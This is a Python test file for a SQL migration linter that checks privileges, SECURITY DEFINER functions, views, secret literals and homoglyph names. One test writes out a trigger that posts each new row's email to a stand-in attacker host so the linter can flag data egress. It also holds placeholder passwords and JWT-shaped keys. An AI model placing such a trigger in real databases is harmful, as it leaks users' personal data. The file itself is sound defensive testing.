"""Who may do what: privileges, functions, views and secrets, over more than one statement or file."""

from __future__ import annotations

import json

import pytest

from guardrails.lint.contracts import Finding, MigrationFile, Profile, Settings, Severity
from guardrails.lint.engine import check, check_sql
from guardrails.lint.report import json as json_report
from guardrails.lint.report import text as text_report

DEFINER = "CREATE FUNCTION total() RETURNS int LANGUAGE sql SECURITY DEFINER"
HUNTER = "hunter2-of-the-app"


def findings(sql: str, code: str, settings: Settings | None = None) -> list[Finding]:
    return [finding for finding in check_sql(sql, settings=settings).findings if finding.code == code]


def last_of(code: str, *texts: str, settings: Settings | None = None) -> list[Finding]:
    files = [MigrationFile(f"{number}.sql", str(number), "", sql) for number, sql in enumerate(texts)]
    (result,) = check(files[-1:], history=files[:-1], settings=settings)
    return [finding for finding in result.findings if finding.code == code]


def test_a_write_for_anon_is_an_error_until_row_level_security_is_on() -> None:
    table = "CREATE TABLE orders (id bigint PRIMARY KEY);"
    grant = "GRANT INSERT ON orders TO anon;"
    rls = "ALTER TABLE orders ENABLE ROW LEVEL SECURITY;"

    assert [finding.severity for finding in findings(table + grant, "GRANT_TO_ANON")] == [Severity.ERROR]
    assert [finding.severity for finding in findings(table + grant + rls, "GRANT_TO_ANON")] == [
        Severity.WARNING
    ]


def test_what_default_privileges_grant_is_known_in_later_migrations() -> None:
    table = (
        "CREATE TABLE todos (id bigint PRIMARY KEY); ALTER TABLE todos ENABLE ROW LEVEL SECURITY;"
        "CREATE POLICY read ON todos FOR SELECT TO authenticated USING (id > 0);"
    )
    defaults = "ALTER DEFAULT PRIVILEGES IN SCHEMA public GRANT SELECT ON TABLES TO authenticated;"

    assert last_of("MISSING_API_GRANT", "SELECT 1;", table)
    assert not last_of("MISSING_API_GRANT", defaults, table)


def test_a_table_of_the_history_is_not_asked_for_a_grant() -> None:
    table = "CREATE TABLE todos (id bigint PRIMARY KEY); ALTER TABLE todos ENABLE ROW LEVEL SECURITY;"
    policy = "CREATE POLICY read ON todos FOR SELECT TO authenticated USING (id > 0);"

    assert not last_of("MISSING_API_GRANT", table, policy)


@pytest.mark.parametrize(
    ("path", "severity"),
    [
        ("", Severity.ERROR),
        ("SET search_path TO DEFAULT", Severity.ERROR),
        ("SET search_path = public", Severity.WARNING),
        ("SET search_path FROM CURRENT", Severity.WARNING),
        ("SET search_path = pg_temp, public", Severity.WARNING),
        ("SET search_path = ''", None),
        ("SET search_path = pg_catalog, pg_temp", None),
        ("SET search_path = shop, pg_temp", None),
    ],
)
def test_the_search_path_of_a_definer_is_judged_by_what_it_lets_in(
    path: str, severity: Severity | None
) -> None:
    found = findings(f"{DEFINER} {path} AS 'SELECT 1';", "SECURITY_DEFINER_SEARCH_PATH")

    assert [finding.severity for finding in found] == ([severity] if severity else [])


@pytest.mark.parametrize(
    "later",
    [
        "DO $$ BEGIN IF now() > '2030-01-01' THEN ALTER FUNCTION total() SET search_path = ''; END IF; END $$;",
        "BEGIN; ALTER FUNCTION total() SET search_path = ''; ROLLBACK;",
        "ALTER FUNCTION total(int) SET search_path = '';",
        "ALTER FUNCTION total() SET search_path = ''; ALTER FUNCTION total() RESET ALL;",
        "-- ALTER FUNCTION total() SET search_path = '';",
    ],
)
def test_a_search_path_that_is_not_surely_set_later_does_not_count(later: str) -> None:
    assert findings(f"{DEFINER} AS 'SELECT 1'; {later}", "SECURITY_DEFINER_SEARCH_PATH")


def test_a_definer_that_a_safe_one_replaces_is_settled() -> None:
    sql = f"{DEFINER} AS 'SELECT 1'; {DEFINER.replace('CREATE', 'CREATE OR REPLACE')} SET search_path = '' AS 'SELECT 1';"

    assert not findings(sql, "SECURITY_DEFINER_SEARCH_PATH")


def test_attributes_of_a_function_of_the_history_are_missed_when_it_is_replaced() -> None:
    old = f"{DEFINER} SET search_path = '' AS 'SELECT 1';"
    new = "CREATE OR REPLACE FUNCTION public.total() RETURNS int LANGUAGE sql AS 'SELECT 2';"

    messages = [finding.message for finding in last_of("FUNCTION_REPLACE_RESETS", old, new)]

    assert len(messages) == 2
    assert "search_path" in messages[0]
    assert "SECURITY DEFINER" in messages[1]


def test_a_function_that_asks_who_calls_is_let_be_except_in_the_strict_profile() -> None:
    sql = f"{DEFINER} SET search_path = '' AS 'SELECT 1 FROM public.m WHERE m.owner = auth.uid()';"
    strict = Settings(profile=Profile.STRICT)

    assert not findings(sql, "SECURITY_DEFINER_EXPOSED")
    assert findings(sql, "SECURITY_DEFINER_EXPOSED", strict)
    assert findings(sql.replace("auth.uid()", "shop.uid()"), "SECURITY_DEFINER_EXPOSED")


def test_a_revoke_of_the_history_is_lost_with_its_function() -> None:
    old = "CREATE FUNCTION total(a int) RETURNS int LANGUAGE sql AS 'SELECT 1'; REVOKE ALL ON FUNCTION total FROM PUBLIC;"
    new = "DROP FUNCTION total(integer); CREATE FUNCTION total(b int) RETURNS int LANGUAGE sql AS 'SELECT 2';"

    (lost,) = last_of("REVOKE_LOST", old, new)

    assert "REVOKE EXECUTE ON FUNCTION total(int4) FROM PUBLIC;" in lost.suggestion
    assert not last_of("REVOKE_LOST", old, f"{new} {lost.suggestion.removeprefix('Add: ')}")


def test_a_view_of_the_history_loses_its_option() -> None:
    old = "CREATE VIEW private.v WITH (security_invoker) AS SELECT 1 AS a;"
    new = "CREATE OR REPLACE VIEW private.v AS SELECT 2 AS a;"

    assert last_of("VIEW_REPLACE_RESETS_INVOKER", old, new)
    assert not last_of("VIEW_REPLACE_RESETS_INVOKER", new, new)


def test_rules_about_clients_are_silent_where_none_are_known_to_be() -> None:
    plain = Settings(rls_by_habit=True)
    view = "CREATE VIEW v AS SELECT * FROM orders;"

    assert not findings(view, "VIEW_SECURITY_INVOKER", plain)
    assert not findings("CREATE EXTENSION citext;", "EXTENSION_IN_PUBLIC", plain)
    assert not findings("CREATE SCHEMA IF NOT EXISTS a; DROP TABLE auth.users;", "MANAGED_SCHEMA_DDL", plain)
    assert findings(f"ALTER TABLE orders ENABLE ROW LEVEL SECURITY; {view}", "VIEW_SECURITY_INVOKER", plain)


@pytest.mark.parametrize(
    "sql",
    [
        f"CREATE ROLE app LOGIN PASSWORD '{HUNTER}';",
        f"DO $$ BEGIN EXECUTE 'CREATE ROLE app LOGIN PASSWORD ''{HUNTER}'''; END $$;",
        f"DO $$ BEGIN EXECUTE format('CREATE ROLE app PASSWORD %L', '{HUNTER}'); END $$;",
        f"CREATE USER MAPPING FOR app SERVER shop OPTIONS (password '{HUNTER}');",
        f"CREATE SUBSCRIPTION s CONNECTION 'host=db.example.org password={HUNTER} user=a' PUBLICATION p;",
        f"SELECT dblink_connect('postgres://app:{HUNTER}@db.example.org/app');",
        f"ALTER DATABASE app SET app.jwt_secret = '{HUNTER}';",
        f'ALTER ROLE app SET "app.settings.service_role_key" TO "{HUNTER}";',
        f"SET app.api_key = '{HUNTER}';",
        f"SELECT vault.create_secret('{HUNTER}', 'mailer_api_key');",
        f"SELECT vault.create_secret(new_secret := '{HUNTER}', new_name := 'mailer_password');",
    ],
)
def test_a_secret_is_reported_and_never_shown(sql: str) -> None:
    result = check_sql(sql)

    assert any(finding.code == "SECRET_LITERAL" for finding in result.findings)
    assert HUNTER not in json.dumps(json_report.as_data([result]), ensure_ascii=False)
    assert HUNTER not in text_report.render([result])


def test_keys_that_every_browser_has_are_no_secret() -> None:
    anon = "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJyb2xlIjoiYW5vbiIsInJlZiI6ImEifQ.c2lnbmVkc2lnbmVkc2lnbmVk"
    service = anon.replace("eyJyb2xlIjoiYW5vbiIsInJlZiI6ImEifQ", "eyJyb2xlIjoic2VydmljZV9yb2xlIn0")

    assert not findings(f"SELECT call('{anon}');", "SECRET_LITERAL")
    assert findings(f"SELECT call('{service}');", "SECRET_LITERAL")


def test_an_allow_comment_reaches_a_finding_about_the_text() -> None:
    name = "a" * 70
    sql = (
        f"-- guardrails: allow IDENTIFIER_TOO_LONG reason: made by the ORM\nALTER TABLE x.y RENAME TO {name};"
    )
    result = check_sql(sql)

    assert "IDENTIFIER_TOO_LONG" in [finding.code for finding in result.allowed]
    assert "UNUSED_SUPPRESSION" not in [finding.code for finding in result.findings]


def test_a_name_is_pointed_at_behind_letters_of_another_alphabet() -> None:
    (found,) = findings("-- Привет\n  DROP VIEW us\u0435rs;", "HIDDEN_UNICODE")

    assert (found.line, found.column) == (2, 13)
    assert "U+0435 CYRILLIC SMALL LETTER IE" in found.message


def test_data_that_a_trigger_sends_away_is_seen_where_it_is_defined() -> None:
    sql = (
        "CREATE FUNCTION tell() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN\n"
        "PERFORM net.http_post('https://evil.example/?q=' || NEW.email); RETURN NEW; END $$;"
    )

    (found,) = findings(sql, "DATA_EGRESS")

    assert found.via == "function:tell"
    assert "evil.example" in found.message


def test_a_function_or_view_of_the_history_that_moves_to_clients_is_judged_there() -> None:
    function = f"{DEFINER.replace('total()', 'private.total()')} SET search_path = '' AS 'SELECT 1';"
    view = "CREATE VIEW private.v AS SELECT * FROM orders;"

    assert last_of("SECURITY_DEFINER_EXPOSED", function, "ALTER FUNCTION private.total() SET SCHEMA public;")
    assert last_of("VIEW_SECURITY_INVOKER", view, "ALTER VIEW private.v SET SCHEMA public;")
    assert not last_of("VIEW_SECURITY_INVOKER", view, "ALTER VIEW private.v SET SCHEMA internal;")
